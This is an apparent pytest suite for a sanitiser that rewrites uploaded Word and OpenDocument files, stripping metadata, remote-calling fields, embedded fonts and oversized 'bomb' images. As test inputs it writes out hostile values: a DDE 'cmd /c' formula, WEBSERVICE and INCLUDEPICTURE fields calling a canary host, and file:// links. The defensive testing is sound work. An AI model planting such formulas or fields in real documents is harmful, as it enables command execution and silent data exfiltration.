"""What hides in Office files: photos under other names, fields that call out, bombs."""

import base64
import struct
from io import BytesIO

import pytest
from PIL import Image

from portfolios.media.office import package, pictures, rewriting
from portfolios.media.office.formulas import calls_out
from portfolios.media.refusal import MediaRefusedError, Refusal
from tests.portfolios.papers import CANARY, WORDS, docx, open_document, rewritten, xlsx
from tests.portfolios.pictures import CAMERA, jpeg_with_gps, png_that_claims

_RELATIONSHIPS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
_TEXT = "urn:oasis:names:tc:opendocument:xmlns:text:1.0"
_OFFICE = "urn:oasis:names:tc:opendocument:xmlns:office:1.0"
_META = "urn:oasis:names:tc:opendocument:xmlns:meta:1.0"
_TABLE = "urn:oasis:names:tc:opendocument:xmlns:table:1.0"
_LINE = struct.pack("<IIii", 54, 16, 30, 40)
_END = struct.pack("<IIIII", 14, 20, 0, 16, 20)


def emf(*records: bytes) -> bytes:
    """A drawing whose head tells the title of the document."""
    title = CANARY.encode("utf-16-le")
    head = bytearray(struct.pack("<II", 1, 108 + len(title)) + bytes(100) + title)
    head[40:44] = b" EMF"
    struct.pack_into("<II", head, 60, len(CANARY), 108)
    return bytes(head) + b"".join(records)


def record(kind: int, content: bytes) -> bytes:
    content += bytes(-len(content) % 4)
    return struct.pack("<II", kind, 8 + len(content)) + content


def fax(side: int) -> bytes:
    out = BytesIO()
    Image.new("1", (side, side), 1).save(out, "TIFF", compression="group4")
    return out.getvalue()


def field(*pieces: str, shown: str = "as it was") -> str:
    def mark(kind: str) -> str:
        return f'<w:r><w:fldChar w:fldCharType="{kind}"/></w:r>'

    code = "".join(f"<w:r><w:instrText>{piece}</w:instrText></w:r>" for piece in pieces)
    return f"{mark('begin')}{code}{mark('separate')}<w:r><w:t>{shown}</w:t></w:r>{mark('end')}"


def page(body: str) -> str:
    return f'<w:document xmlns:w="urn:w" xmlns:r="{_RELATIONSHIPS}"><w:p>{body}</w:p></w:document>'


@pytest.mark.parametrize("kind", ["emf", "wmf", "svm", "tiff", "bmp", "png", "gif"])
def test_a_photo_is_a_photo_whatever_its_name(kind: str) -> None:
    word, writer = f"word/media/image2.{kind}", f"Pictures/2.{kind}"
    letter = rewritten(docx(**{word: jpeg_with_gps()}))
    paper = rewritten(open_document("text", **{writer: jpeg_with_gps()}))

    for content in (letter[word], paper[writer]):
        assert CAMERA.encode() not in content
        assert b"GPS" not in content
        with Image.open(BytesIO(content)) as photo:
            assert photo.size != (1, 1)


def test_a_drawing_keeps_its_strokes_and_loses_comments_bitmaps_and_title() -> None:
    hidden = jpeg_with_gps()
    upload = emf(record(70, b"EMF+" + hidden), _LINE, record(81, hidden), record(113, hidden), _END)

    made = rewritten(docx(**{"word/media/image2.emf": upload}))["word/media/image2.emf"]

    assert made[88:] == _LINE + _END
    assert struct.unpack("<II", made[48:56]) == (len(made), 3)
    assert CANARY.encode("utf-16-le") not in made


@pytest.mark.parametrize(
    "drawing",
    [
        pytest.param(b"VCLMTF" + CANARY.encode(), id="of LibreOffice"),
        pytest.param(b"\xd7\xcd\xc6\x9a" + CANARY.encode(), id="of an old Windows"),
        pytest.param(emf(_LINE)[:-3] + CANARY.encode(), id="cut off"),
    ],
)
def test_of_other_drawings_a_white_point_stays(drawing: bytes) -> None:
    made = rewritten(open_document("text", **{"Pictures/2.svm": drawing}))["Pictures/2.svm"]

    with Image.open(BytesIO(made)) as point:
        assert point.size == (1, 1)


def test_fonts_stay_at_home() -> None:
    assert "word/fonts/f.odttf" not in rewritten(docx(**{"word/fonts/f.odttf": CANARY}))
    assert "Fonts/f.ttf" not in rewritten(open_document(**{"Fonts/f.ttf": CANARY}))


def test_a_field_cut_into_pieces_calls_nobody() -> None:
    nested = field("IF 1 = 1 ", field("DD", f"EAUTO {CANARY}"))
    body = page(
        field("INCL", f'UDEPICTURE "http://{CANARY}/a.png"')
        + nested
        + field(f'HYPERLINK "file:///home/{CANARY}"')
        + f'<w:fldSimple w:instr="IMPORT {CANARY}"><w:r><w:t>drawn</w:t></w:r></w:fldSimple>'
    )

    made = rewritten(docx(**{"word/document.xml": body}))["word/document.xml"].decode()

    assert CANARY not in made
    assert made.count("as it was") == 4
    assert "drawn" in made


def test_a_field_that_only_counts_stays() -> None:
    body = page(field("PA", "GE") + field('HYPERLINK "https://example.org/"') + field("= 1 + 1"))

    made = rewritten(docx(**{"word/document.xml": body}))["word/document.xml"].decode()

    for code in (">PA<", ">GE<", "https://example.org/", "= 1 + 1"):
        assert code in made


def test_a_field_that_shows_a_name_shows_none() -> None:
    codes = ("AUTHOR", "FILENAME \\p", 'DOCPROPERTY "Company"')
    body = page("".join(field(code, shown=CANARY) for code in codes) + WORDS)

    made = rewritten(docx(**{"word/document.xml": body}))["word/document.xml"].decode()

    assert CANARY not in made
    assert WORDS in made


def test_a_web_page_in_the_middle_of_a_letter_goes() -> None:
    relation = f'<Relationship Id="rIdA" Type="{_RELATIONSHIPS}/aFChunk" Target="chunk.xml"/>'
    made = rewritten(
        docx(
            **{
                "word/chunk.xml": f"<html>{CANARY}</html>",
                "word/document.xml": page(f'{WORDS}<w:altChunk r:id="rIdA"/>'),
                "word/_rels/document.xml.rels": f"<Relationships>{relation}</Relationships>",
            }
        )
    )

    assert "word/chunk.xml" not in made
    assert b"altChunk" not in made["word/document.xml"]
    assert b"chunk" not in made["word/_rels/document.xml.rels"]


@pytest.mark.parametrize(
    "formula",
    [
        f'_xlfn.WEBSERVICE("http://{CANARY}/"&amp;A1)',
        f'_xlfn.IMAGE("https://{CANARY}/p.png")',
        f'1+HYPERLINK("file://{CANARY}/x","k")',
        f"cmd|'/c {CANARY}'!A1",
        f"of:='file:///home/{CANARY}/marks.ods'#$One.A1",
        f'of:=DDE("soffice";"{CANARY}";"A1")',
    ],
)
def test_a_cell_that_asks_the_network_keeps_its_value(formula: str) -> None:
    sheet = f"<worksheet><c><f>{formula}</f><v>42</v></c></worksheet>"
    excel = rewritten(xlsx(**{"xl/worksheets/sheet1.xml": sheet}))["xl/worksheets/sheet1.xml"]
    written = formula.replace('"', "&quot;")
    table = f'<t:table xmlns:t="{_TABLE}"><t:cell t:formula="{written}" t:value="42"/></t:table>'
    calc = rewritten(open_document("spreadsheet", **{"content.xml": table}))["content.xml"]

    assert b"<c><v>42</v></c>" in excel
    assert CANARY.encode() not in excel + calc
    assert b't:value="42"' in calc


def test_a_cell_that_only_counts_stays() -> None:
    for formula in (
        'SUM(A1:A9)&" a|b "',
        'HYPERLINK("https://example.org/","k")',
        "IMAGES!A1",
        "of:=SUM([.A1:.A9])",
    ):
        assert not calls_out(formula)


def test_whoever_shares_a_formula_that_goes_loses_it_too() -> None:
    sheet = (
        '<worksheet><c><f t="shared" si="0">WEBSERVICE(A1)</f><v>1</v></c>'
        '<c><f t="shared" si="0"/><v>2</v></c><c><f t="shared" si="1"/><v>3</v></c></worksheet>'
    )
    made = rewritten(xlsx(**{"xl/worksheets/sheet1.xml": sheet}))["xl/worksheets/sheet1.xml"]

    assert b'<c><v>1</v></c><c><v>2</v></c><c><f t="shared" si="1"/>' in made


def test_an_opendocument_shows_no_names_and_hides_no_pictures() -> None:
    spaces = f'xmlns:o="{_OFFICE}" xmlns:t="{_TEXT}" xmlns:m="{_META}"'
    hidden = base64.b64encode(jpeg_with_gps()).decode()
    body = f"""<o:document-content {spaces}><o:meta><m:initial-creator>{CANARY}</m:initial-creator>
    </o:meta><m:keyword>{CANARY}</m:keyword><t:p>{WORDS}<image><o:binary-data>{hidden}
    </o:binary-data></image><t:author-name>{CANARY}</t:author-name> and
    <t:file-name>/home/{CANARY}</t:file-name> so <t:sender-email>{CANARY}</t:sender-email> on
    </t:p></o:document-content>"""

    made = rewritten(open_document(**{"content.xml": body}))["content.xml"].decode()

    assert CANARY not in made
    assert hidden[:40] not in made
    for words in (WORDS, " and", " so ", " on"):
        assert words in made


def test_a_fax_of_a_few_bytes_stays_small() -> None:
    made = rewritten(docx(**{"word/media/image2.tif": fax(2000)}))["word/media/image2.tif"]

    assert len(made) < 50_000
    with Image.open(BytesIO(made)) as paper:
        assert (paper.format, paper.size) == ("TIFF", (2000, 2000))


@pytest.mark.parametrize(("limit", "most"), [("MOST_PIXELS", 99), ("MOST_PIXELS_IN_ALL", 199)])
def test_pictures_that_would_fill_the_memory_are_refused(
    limit: str, most: int, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(pictures, limit, most)
    faxes = {f"word/media/image{n}.tif": fax(10) for n in (2, 3)}

    with pytest.raises(MediaRefusedError) as refused:
        rewritten(docx(**faxes))
    assert refused.value.refusal is Refusal.TOO_MANY_PIXELS


@pytest.mark.parametrize("side", [11_000, 60_000])
def test_a_picture_that_promises_more_pixels_than_a_photo_may_have_is_a_bomb(side: int) -> None:
    """It is not decoded here, but would be by whoever downloads the document."""
    bomb = png_that_claims(side, side)
    letter = docx(**{"word/media/image2.png": bomb})
    paper = open_document("text", **{"Pictures/2.png": bomb})

    for upload in (letter, paper):
        with pytest.raises(MediaRefusedError) as refused:
            rewritten(upload)
        assert refused.value.refusal is Refusal.TOO_MANY_PIXELS


def test_what_comes_out_is_measured_too(monkeypatch: pytest.MonkeyPatch) -> None:
    upload = docx(**{"word/media/image2.tif": fax(2000)})
    monkeypatch.setattr(rewriting, "MOST_UNPACKED", 15_000)

    with pytest.raises(MediaRefusedError) as refused:
        rewritten(upload)
    assert refused.value.refusal is Refusal.TOO_BIG
    assert len(upload) < package.MOST_UNPACKED


def test_a_document_may_not_take_for_ever(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(rewriting, "LONGEST", -1.0)

    with pytest.raises(MediaRefusedError) as refused:
        rewritten(docx())
    assert refused.value.refusal is Refusal.STUCK


def test_whoever_waits_for_a_document_hears_how_far_it_is() -> None:
    heard: list[float] = []
    rewritten(docx(), heard.append)

    assert heard == sorted(heard)
    assert 0 < heard[-1] <= 1
